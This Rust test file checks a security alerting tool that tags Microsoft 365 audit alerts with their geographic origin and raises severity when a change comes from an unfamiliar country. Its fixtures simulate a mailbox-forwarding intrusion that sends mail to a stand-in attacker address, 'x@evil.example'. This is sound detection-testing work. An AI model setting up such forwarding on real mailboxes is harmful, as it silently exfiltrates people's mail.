//! Alerts carry where the change came from, and a change made from a country its author
//! never signed in from is raised one step; a familiar address changes nothing.

use m365_sandbox::attacks::{self, RecordCtx};
use serde_json::{Value, json};

use crate::geo::ipstack_key_turn;
use crate::harness::*;

const LONDON: &str = "81.2.69.160";
const LAGOS: &str = "41.58.1.1";

fn from(mut ctx: RecordCtx, ip: &str) -> RecordCtx {
    ctx.client_ip = ip.into();
    ctx.record_id = uuid::Uuid::new_v4();
    ctx
}

fn planted(t: &TestTenant, content_type: &str, record: Value) -> Value {
    planted_at(t, content_type, record, -5)
}

fn planted_at(t: &TestTenant, content_type: &str, record: Value, release_after_s: i64) -> Value {
    json!({"tenant_id": t.tenant_id, "content_type": content_type, "release_after_s": release_after_s, "record": record})
}

#[test]
fn a_change_from_a_country_never_signed_in_from_is_raised_and_located() {
    let _turn = ipstack_key_turn();
    let t = TestTenant::new(0);
    let key = format!("ipstack-{}", uuid::Uuid::new_v4().simple());
    let forward = |actor: usize, ip: &str| {
        planted(
            &t,
            "Audit.Exchange",
            attacks::set_mailbox_forwarding(
                &from(t.ctx(actor, actor), ip),
                Some("smtp:x@evil.example"),
                None,
                true,
            ),
        )
    };
    // Two hours before the changes: the users' own history.
    let sign_in_at = |user: usize, ip: &str, release_after_s: i64| {
        planted_at(
            &t,
            "Audit.AzureActiveDirectory",
            attacks::user_logged_in(&from(t.ctx(user, user), ip)),
            release_after_s,
        )
    };
    let sign_in = |user: usize, ip: &str| sign_in_at(user, ip, -7200);
    let scenario = json!({
        "tenants": [t.scenario_json()],
        "records": [
            sign_in(0, LONDON), forward(0, &format!("{LAGOS}:50123")),
            sign_in(1, LONDON), forward(1, &format!("{LONDON}:40000")),
            forward(2, LAGOS),
            // The intruder signs in from Lagos minutes before the change: that sign-in
            // does not make Lagos familiar.
            sign_in(3, LONDON), sign_in_at(3, LAGOS, -300), forward(3, LAGOS),
        ],
        // Each record made when it was released: the sign-ins hours or minutes before.
        "rebase_times": true,
        "geo": {"ipstack_key": key, "locations": {
            LONDON: {"country_code": "GB", "country_name": "United Kingdom", "region_name": "England", "city": "London",
                     "asn": 2856, "isp": "British Telecommunications"},
            LAGOS: {"country_code": "NG", "country_name": "Nigeria", "region_name": "Lagos", "city": "Lagos",
                    "asn": 36873, "isp": "Airtel Networks", "is_proxy": true}}},
    });
    let sandbox = Sandbox::start(&scenario);
    let rw = Rulewatch::with_tenants(&sandbox, std::slice::from_ref(&t));
    assert_eq!(
        rw.run_with_stdin(&["geo", "ipstack"], &format!("{key}\n"))
            .code,
        0
    );
    let on = rw.run(&["sign-ins", "on"]);
    assert_eq!(on.code, 0, "{}", on.stderr);

    let scan = rw.scan();
    assert_eq!(scan.code, 0, "{}", scan.stderr);
    let alerts = scan.json_lines();
    let of = |user: usize| {
        alerts
            .iter()
            .find(|a| a["target"] == t.users[user].as_str())
            .unwrap_or_else(|| panic!("no alert for {}", t.users[user]))
    };

    let stranger = of(0);
    assert_eq!(
        stranger["severity"], "critical",
        "high raised one step: {stranger}"
    );
    assert!(
        stranger["summary"].as_str().unwrap().ends_with(&format!(
            "Made from {LAGOS} (Lagos, Nigeria (NG) · AS36873 Airtel Networks · VPN/proxy). {} has never signed in from Nigeria.",
            t.users[0]
        )),
        "{}",
        stranger["summary"]
    );
    assert_eq!(stranger["origin"]["familiarity"], "new_country");
    assert_eq!(stranger["origin"]["location"]["country_code"], "NG");

    let familiar = of(1);
    assert_eq!(familiar["severity"], "high");
    assert_eq!(familiar["origin"]["familiarity"], "known_address");
    assert!(
        familiar["summary"].as_str().unwrap().ends_with(
            "(London, England, United Kingdom (GB) · AS2856 British Telecommunications)."
        ),
        "{}",
        familiar["summary"]
    );

    let fresh = of(3);
    assert_eq!(fresh["origin"]["familiarity"], "new_country", "{fresh}");
    assert_eq!(fresh["severity"], "critical");

    let unknown = of(2);
    assert_eq!(
        unknown["severity"], "high",
        "no sign-in history is no evidence either way"
    );
    assert_eq!(unknown["origin"]["familiarity"], "unknown");

    // Each address was asked of ipstack once; the rest came from the cache.
    assert_eq!(sandbox.stats()["ipstack"]["requests"], 2);
}

#[test]
fn without_a_provider_alerts_arrive_unchanged() {
    let (scenario, tenants, expected) = world(1, 20, json!({}));
    let sandbox = Sandbox::start(&scenario);
    let rw = Rulewatch::with_tenants(&sandbox, &tenants);
    let scan = rw.scan();
    assert_eq!(scan.code, 0, "{}", scan.stderr);
    let alerts = scan.json_lines();
    assert_exactly(&alerts, &expected);
    // The world's address is a documentation range: never located, so no origin.
    assert!(alerts.iter().all(|a| a["origin"].is_null()), "{alerts:?}");
}
